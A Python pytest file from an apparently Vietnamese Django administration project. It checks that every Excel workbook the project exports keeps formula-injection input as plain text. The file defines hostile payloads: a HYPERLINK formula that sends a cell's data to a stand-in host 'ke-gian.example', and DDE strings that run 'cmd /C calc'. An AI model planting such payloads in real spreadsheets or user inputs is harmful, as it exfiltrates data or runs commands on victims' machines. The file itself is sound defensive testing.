"""Excel formula injection: a note, a name or a title typed as `=HYPERLINK(…)` comes out of every
workbook the project writes as the text typed, never as a live formula (`thidua.lib.excel.safe_row`)."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from thidua.access import SYSTEM
from thidua.commendations.models import Award
from thidua.commendations.tests import conftest as commendation_fixtures
from thidua.commendations.tests import test_views as commendation_views
from thidua.movements import selectors, services, workbook
from thidua.movements.models import Commitment, Indicator
from thidua.movements.tests import conftest as movement_fixtures
from thidua.people.importing import template_workbook
from thidua.surveys import exports
from thidua.surveys.tests.test_surveys import answer, make_survey
from thidua.units.models import Unit

movement = movement_fixtures.movement
indicators = movement_fixtures.indicators
targets = movement_fixtures.targets
award = commendation_fixtures.award
council = commendation_fixtures.council
world = commendation_views.world

NOTE = '=HYPERLINK("http://ke-gian.example/?d="&B2,"Xem chi tiết")'
NAME = "=1+cmd|' /C calc'!A0"
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _bytes(wb) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def assert_text(data: bytes, *payloads: str) -> None:
    """Every payload is in the workbook as a string cell, and no cell anywhere is a formula."""
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for payload in payloads:
        found = [c for c in cells if c.value == payload]
        assert found, payload
        assert all(c.data_type == "s" for c in found)


@pytest.fixture
def hostile(tree, movement, targets):
    """A hamlet head's note on a figure; a unit, an indicator and registered titles named as formulas."""
    period = movement.periods.order_by("start").first()
    figure = services.ImportedFigure(targets["hamlet_income"], period, Decimal(44), None, NOTE)
    services.progress_report_import(actor=SYSTEM, unit=tree.hamlet, figures=[figure])
    Unit.objects.filter(pk=tree.hamlet.pk).update(name=NAME)
    Indicator.objects.filter(pk=targets["hamlet_income"].indicator_id).update(name=NAME)
    tree.hamlet.refresh_from_db()
    return period


def test_the_figures_workbook_keeps_a_hamlet_heads_note_as_text(client, personas, tree, movement, hostile):
    client.force_login(personas["officer"])
    url = reverse("movements:figures_template", args=[movement.pk])
    response = client.get(url + f"?unit={tree.commune.pk}&period={hostile.pk}")
    assert response.status_code == 200
    assert_text(response.content, NOTE, NAME)
    assert_text(_bytes(workbook.figures_workbook(movement, unit=tree.commune, period=hostile)), NOTE, NAME)


def test_the_dashboard_export_keeps_names_as_text(client, personas, movement, hostile):
    client.force_login(personas["officer"])
    response = client.get(reverse("movements:export", args=[movement.pk]))
    assert response.status_code == 200
    assert_text(response.content, NAME)
    board = selectors.dashboard(movement, year=2026, today=timezone.localdate(), viewer=SYSTEM)
    assert_text(_bytes(workbook.dashboard_workbook(board)), NAME)


def test_the_commitments_workbook_keeps_titles_and_names_as_text(tree, movement, hostile):
    Commitment.objects.create(movement=movement, unit=tree.hamlet, year=2026, titles=TITLE)
    data = _bytes(workbook.commitments_workbook(movement, unit=tree.hamlet, year=2026))
    assert_text(data, NAME)
    cells = _cells(data)
    assert [c.data_type for c in cells if c.value == TITLE] == ["s"]


def test_the_money_export_keeps_recipient_and_note_as_text(client, personas, world):
    Award.objects.filter(pk=world.award.pk).update(recipient_name=NAME, amount_note=NOTE)
    client.force_login(personas["officer"])
    response = client.get(reverse("commendations:money_export"))
    assert response.status_code == 200
    assert_text(response.content, NAME, NOTE)


def test_the_people_template_keeps_unit_names_as_text(tree):
    Unit.objects.filter(pk=tree.hamlet2.pk).update(name=NAME)
    assert_text(_bytes(template_workbook(tree.commune)), NAME)


def test_the_survey_exports_keep_comments_as_text(tree):
    survey = make_survey(tree)
    answer(survey, lambda q: 5, comments=NOTE, expectations=TITLE)
    assert_text(exports.responses_xlsx(survey), NOTE, TITLE)
    from thidua.surveys.selectors import results

    type(survey).objects.filter(pk=survey.pk).update(title=NAME)
    survey.refresh_from_db()
    assert_text(exports.summary_xlsx(results(survey)), NAME)


def test_dates_and_numbers_stay_what_they_are(tree, movement, hostile):
    """Only text is made text: figures stay numbers, dates stay dates."""
    data = _bytes(workbook.figures_workbook(movement, unit=tree.commune, period=hostile))
    ws = load_workbook(io.BytesIO(data)).active
    row = next(r for r in ws.iter_rows(min_row=2) if r[9].value == NOTE)
    assert row[7].value == 44 and row[7].data_type == "n"
    assert isinstance(row[4].value, int)
